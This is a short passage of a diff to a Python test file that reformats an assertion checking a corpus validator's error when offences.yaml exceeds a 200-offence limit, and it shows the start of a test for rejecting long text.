+        tmp_path, {"jurisdictions/us.yaml": state("US", "none"), "offences.yaml": taxonomy}
+    )
     code, out = check(root, capsys)
     assert code == 1
-    assert re.search(r"corpus/offences.yaml:\d+:5: offences.200: the corpus has 2\d\d offences; "
-                     r"the limit is 200", out), out
+    assert re.search(
+        r"corpus/offences.yaml:\d+:5: offences.200: the corpus has 2\d\d offences; "
+        r"the limit is 200",
+        out,
+    ), out
 
 
 def test_long_text_is_rejected() -> None:
